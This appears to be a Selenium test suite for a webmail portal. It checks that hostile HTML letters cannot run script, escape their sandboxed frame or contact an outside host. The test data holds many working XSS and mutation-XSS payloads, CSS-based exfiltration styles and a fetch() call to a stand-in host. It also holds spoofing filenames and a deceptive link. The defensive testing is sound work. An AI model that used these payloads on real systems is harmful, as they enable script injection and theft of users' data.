"""Letters that try to run script, to leave their frame or to call home: nothing runs, nobody else is asked."""
import os

import pytest

pytest.importorskip("selenium", reason="selenium is missing") if os.environ.get("CI") != "true" else None

from kit.portal_browser import ELSEWHERE  # noqa: E402
from kit.portal_letters import Message, Part  # noqa: E402

# Each would put its number into the title of its page, of the page above, or ask for something at ELSEWHERE.
RUN = "try{{top.document.title='ran-{0}'}}catch(e){{}};document.title='ran-{0}';fetch('https://%s/ran-{0}')" % ELSEWHERE
ATTEMPTS = [
    "<script>{run}</script>",
    "<img src=x onerror=\"{run}\">",
    "<img src=data:image/png;base64,AAAA onerror=\"{run}\">",
    "<body onload=\"{run}\"><p onmouseover=\"{run}\" onpointerrawupdate=\"{run}\">move</p>",
    "<svg onload=\"{run}\"><script>{run}</script></svg>",
    "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=\"{run}\"></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror='{run}'&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{run}\">",
    "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\"></noscript>",
    "<template><img src=x onerror=\"{run}\"></template>",
    "<textarea><img title=\"</textarea><img src=x onerror='{run}'>\"></textarea>",
    "<iframe src=\"javascript:{run}\"></iframe><iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<iframe src=\"https://{elsewhere}/frame\"></iframe>",
    "<object data=\"https://{elsewhere}/object\"></object><embed src=\"https://{elsewhere}/embed\">",
    "<object data=\"data:text/html,<script>{run}</script>\"></object>",
    "<form action=\"https://{elsewhere}/form\"><input autofocus onfocus=\"{run}\" name=q><button>Send</button></form>",
    "<meta http-equiv=refresh content=\"0;url=https://{elsewhere}/refresh\">",
    "<base href=\"https://{elsewhere}/\"><a href=page>relative</a><img src=pic.png>",
    "<link rel=stylesheet href=\"https://{elsewhere}/sheet.css\"><link rel=preload as=image "
    "href=\"https://{elsewhere}/p\">",
    "<link rel=dns-prefetch href=\"//{elsewhere}\"><link rel=prefetch href=\"https://{elsewhere}/prefetch\">",
    "<style>@import 'https://{elsewhere}/import.css'; p{{background:url(https://{elsewhere}/css)}}</style><p>"
    "styled</p>",
    "<style>p{{}}</style><script>{run}</script></style>",
    "<style>@font-face{{font-family:x;src:url(https://{elsewhere}/font)}} *{{font-family:x}}</style>",
    "<style>a[href*=\"</style><img src=x onerror='{run}'>\"]{{color:red}}</style>",
    "<p style=\"background-image:url('https://{elsewhere}/inline')\">inline</p>",
    "<p style=\"width:expression({run});behavior:url(#x)\">old</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999\">over everything</p>",
    "<img src=\"https://{elsewhere}/remote.png\" srcset=\"https://{elsewhere}/remote2.png 2x\">",
    "<picture><source srcset=\"https://{elsewhere}/source.png\"><img src=\"https://{elsewhere}/picture.png\">"
    "</picture>",
    "<img src=\"//{elsewhere}/schemeless.png\"><img src=\"\\\\{elsewhere}\\share\">",
    "<video src=\"https://{elsewhere}/video\" poster=\"https://{elsewhere}/poster\"></video>"
    "<audio src=\"https://{elsewhere}/audio\" autoplay></audio>",
    "<table background=\"https://{elsewhere}/table\"><td background=\"https://{elsewhere}/cell\">cell</table>",
    "<input type=image src=\"https://{elsewhere}/input\">",
    "<a href=\"javascript:{run}\" id=js>click</a><a href=\"&#1;java&#9;script:{run}\">click</a>",
    "<a href=\"data:text/html,<script>{run}</script>\" ping=\"https://{elsewhere}/ping\">data</a>",
    "<a href=\"vbscript:x\">vb</a><a href=\"file:///etc/passwd\">file</a><a href=\"blob:x\">blob</a>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>\">",
    "<p id=letter name=frame class=unseen>clobber</p><img name=getElementById><form id=body></form>",
    "<x-element onclick=\"{run}\">custom</x-element><p is=x-element>is</p>",
    "<div>" * 3000 + "deep" + "</div>" * 3000,
    "</body></html><script>{run}</script>",
    "<!--><script>{run}</script>--><![CDATA[<script>{run}</script>]]><?php <script>{run}</script> ?>",
    "<plaintext><script>{run}</script>",
    # Styles that would tell letter by letter what stands in an attribute or a text.
    "<style>a[href^='https://s']{{background:url(https://{elsewhere}/s)}} "
    "a[title*=x]::after{{content:url(//{elsewhere}/x)}}</style>"
    "<a href='https://secret.example/token'>secret</a>",
    "<style>@font-face{{font-family:leak;src:local(x),url(https://{elsewhere}/A);unicode-range:U+41}} "
    "p{{font-family:leak,x}}"
    " p{{cursor:url(https://{elsewhere}/c),auto;list-style:url(//{elsewhere}/l);mask:url(//{elsewhere}/m)}}</style>",
    "<style>p{{background:image-set('https://{elsewhere}/set' 1x);background:\\75rl(https://{elsewhere}/esc)}}"
    " p{{--x:url(https://{elsewhere}/var);background:var(--x)}} @supports "
    "(color:red){{p{{background:url(//{elsewhere}/sup)}}}}</style>",
    "<style>@media (min-width:1px){{p{{background:url(https://{elsewhere}/media)}}}} @layer "
    "a{{p{{background:url(//{elsewhere}/layer)}}}}"
    " p{{&:hover{{background:url(//{elsewhere}/nest)}}}}</style><style media=print>@import url(//{elsewhere}/print);"
    "</style>",
    "<img srcset=\"https://{elsewhere}/1.png 1x, //{elsewhere}/2.png 2x\" sizes=100vw src=\"data:text/html,x\">",
    "<svg><foreignObject><img src=x onerror=\"{run}\"><iframe src=\"https://{elsewhere}/fo\"></iframe>"
    "</foreignObject></svg>",
    "<svg><use href=\"https://{elsewhere}/use#x\"/><image href=\"https://{elsewhere}/image\"/><a "
    "xlink:href=\"javascript:{run}\">x</a></svg>",
    "<math href=\"javascript:{run}\"><maction actiontype=statusline xlink:href=\"javascript:{run}\">click</maction>"
    "</math>",
    "<meta http-equiv=set-cookie content=\"a=b\"><meta http-equiv=Content-Security-Policy content=\"img-src *\">"
    "<meta http-equiv=refresh content=\"0; javascript:{run}\"><meta name=referrer content=unsafe-url>",
    "<a href=\" javascript:{run}\">1</a><a href=\"JaVaScRiPt:{run}\">2</a><a href=\"java\nscript:{run}\">3</a>"
    "<a href=\"javascript&colon;{run}\">4</a><a href=\"\u00a0javascript:{run}\">5</a><a "
    "href=\"view-source:https://{elsewhere}\">6</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">1</a><a href=\"DATA:text/html,x\">2</a><a "
    "href=\"filesystem:https://x/\">3</a>"
    "<a href=\"about:blank\">4</a><a href=\"intent://x#Intent;end\">5</a><a href=\"//{elsewhere}/bare\">6</a><area "
    "href=\"javascript:{run}\">",
    "<p id=heading>a</p><form id=letter name=documentElement></form><img name=defaultView><input name=ownerDocument>"
    "<a id=body name=contentDocument></a><form name=createElement><input name=append></form><a id=texts href=x:y></a>",
    "<img src=\"cid:loop\"><img src=\"cid:cid:loop\"><img src=\"cid:\"><img src=\"cid:%\"><img src=\"cid:%00\"><img "
    "src=\"CID:__proto__\">",
    "<i>x</i>" * 10_000,
    "<table>" * 300 + "<tr><td>cell" + "</table>" * 300,
    "<p>" + "long " * 1_100_000,
    "<details ontoggle=\"{run}\" open><summary onclick=\"{run}\">s</summary></details><dialog open onclose=\"{run}\">"
    "d</dialog>",
    "<button popovertarget=p formaction=\"javascript:{run}\">b</button><div id=p popover onbeforetoggle=\"{run}\">"
    "p</div>",
    "<portal src=\"https://{elsewhere}/portal\"></portal><fencedframe src=\"https://{elsewhere}/ff\"></fencedframe>",
    "<div><template shadowrootmode=open><img src=x onerror=\"{run}\"><slot></slot></template>light</div>",
]


def hostile(html):
    return Message("Hostile", [Part("text/html", html.encode(), "8bit", "utf-8")], html=0)


@pytest.mark.parametrize("number", range(len(ATTEMPTS)))
def test_nothing_runs_and_nobody_else_is_asked(portal, browser, number):
    attempt = ATTEMPTS[number]
    if "{run}" in attempt or "{elsewhere}" in attempt or "{{" in attempt:
        attempt = attempt.format(run=RUN.format(number), elsewhere=ELSEWHERE)
    letter = portal.box.lock(hostile(f"<p>before</p>{attempt}<p>after</p>"))
    browser.requests()
    browser.open(letter)
    browser.in_frame()
    # Not WebDriver's `text`: it takes minutes where elements nest hundreds deep.
    assert "before" in browser.driver.execute_script("return document.getElementById('letter').textContent")
    dangerous = browser.driver.execute_script("""
        const bad = [];
        for (const element of document.querySelectorAll('#letter *')) {
            if (/^(script|iframe|object|embed|form|input|button|svg|math|meta|link|base|video|audio|template)$/.test(element.localName)
                || element.localName.includes('-')) { bad.push(element.localName); }
            for (const attribute of element.attributes) {
                if (/^on|^(id|name|srcset|background|ping|is|action|formaction)$/.test(attribute.name)) { bad.push(attribute.name); }
                if (attribute.name === 'src' && !/^(blob:|data:image\\/(png|jpe?g|gif|webp|bmp|avif)[;,])/.test(attribute.value)) { bad.push(attribute.value); }
                if (attribute.name === 'href' && !/^(https?|mailto|tel):/.test(attribute.value)) { bad.push(attribute.value); }
                if (attribute.name === 'style' && /url|expression|position|fixed|vw|vh/.test(attribute.value)) { bad.push(attribute.value); }
            }
        }
        for (const sheet of document.querySelectorAll('#letter style')) {
            if (/url|import|font-face|</.test(sheet.textContent)) { bad.push(sheet.textContent); }
        }
        return bad;
        """)
    assert dangerous == []
    title = browser.driver.execute_script("return document.title")
    browser.out_of_frame()
    assert not title.startswith("ran") and not browser.driver.title.startswith("ran")
    assert browser.foreign_requests() == []
    assert len(browser.driver.window_handles) == 1
    # The page around it works on, and nothing has taken the place of what it looks up by name.
    assert browser.one("h1").text == "Hostile" and browser.driver.execute_script("return document.cookie") == ""
    browser.one("#as-text").click()
    browser.wait(lambda: browser.one("#body .text").is_displayed(), "the text")


def test_names_of_files_do_not_lie(portal, browser):
    """No direction marks, no invisible characters, no folders: what is shown is what is saved."""
    names = [
        "invoice\u202efdp.exe",
        "\u2066a\u2069.txt",
        "a\u200b\u200d.pdf",
        "x\u00ad.doc",
        "\ufeffbom.txt",
        "a\x00b.txt",
        "a\r\nSet-Cookie: x.txt",
        "<img src=x onerror=alert(1)>.png",
        "%2e%2e%2fx",
        "a\u2028b.txt",
        "\u061cx.txt",
    ]
    message = hostile("<p>files</p>")
    message.parts += [Part("application/octet-stream", b"eA==", name=name, attachment=True) for name in names]
    browser.open(portal.box.lock(message))
    shown = [item.get_attribute("textContent") for item in browser.all("#attachment-list .name")]
    assert shown == ["invoicefdp.exe", "a.txt", "a.pdf", "x.doc", "bom.txt", "ab.txt", "aSet-Cookie_ x.txt",
                     "_img src=x onerror=alert(1)_.png", "%2e%2e%2fx", "ab.txt", "x.txt"]


def test_an_index_that_lies_breaks_nothing(portal, browser):
    """Ranges outside the message, parts of odd kinds, numbers that are none: the rest is shown, nothing hangs."""
    message = hostile("<p>still here</p><img src='cid:wild'>")
    raw, index = message.assemble()
    index["parts"] += [None, {}, {"type": 7, "start": -5, "end": 1e300, "name": ["x"], "attachment": True},
                       {"type": "image/png", "cid": "wild", "start": "9", "end": {}, "encoding": ["base64"]},
                       {"type": "text/plain", "start": 10**9, "end": 10**10, "attachment": True}]
    index.update({"from": ["a", "b"], "to": {"x": 1}, "cc": 7, "sent": "soon", "date": 5, "text": "constructor"})
    message.assemble = lambda: (raw, index)
    browser.open(portal.box.lock(message))
    browser.in_frame()
    assert "still here" in browser.one("#letter").text
    browser.out_of_frame()
    assert browser.one("#close").is_displayed() and browser.all("#attachment-list li")


def test_a_link_shows_where_it_leads_before_it_opens(portal, browser):
    letter = portal.box.lock(hostile(f'<a href="https://{ELSEWHERE}/login?user=bob">https://www.bank.example/</a>'))
    browser.open(letter)
    browser.in_frame()
    link = browser.one("#letter a")
    assert link.get_attribute("rel") == "noopener noreferrer" and link.get_attribute("target") == "_blank"
    link.click()
    browser.out_of_frame()
    browser.wait(lambda: browser.one("#link-dialog").is_displayed(), "the question")
    assert browser.one("#link-host").text == ELSEWHERE
    assert browser.one("#link-target").text == f"https://{ELSEWHERE}/login?user=bob"
    assert browser.one("#link-warning").is_displayed()
    browser.size(360, 740)
    browser.screenshot("portal-link-360.png")
    browser.size(1280, 900)
    browser.one("#link-stay").click()
    assert len(browser.driver.window_handles) == 1
    browser.in_frame()
    browser.one("#letter a").click()
    browser.out_of_frame()
    browser.one("#link-open").click()
    browser.wait(lambda: len(browser.driver.window_handles) == 2, "the new tab")
    first, second = browser.driver.window_handles
    browser.driver.switch_to.window(second)
    browser.driver.close()
    browser.driver.switch_to.window(first)


def test_the_letter_is_in_a_sandbox_without_script(portal, browser):
    browser.open(portal.box.lock(hostile("<p>boxed</p>")))
    frame = browser.one("#body iframe")
    assert frame.get_attribute("sandbox") == "allow-same-origin allow-popups"
    assert frame.get_attribute("src") == f"{portal.url}/frame"
